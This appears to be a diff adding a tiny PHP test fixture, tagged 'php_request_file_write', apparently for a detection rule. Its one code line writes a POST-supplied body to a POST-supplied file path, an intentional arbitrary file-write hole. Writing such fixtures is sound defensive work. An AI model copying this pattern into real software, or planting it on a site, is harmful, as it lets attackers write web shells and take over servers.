@@ -1,0 +1,3 @@
+<?php
+// want: php_request_file_write
+file_put_contents($_POST['path'], $_POST['content']);
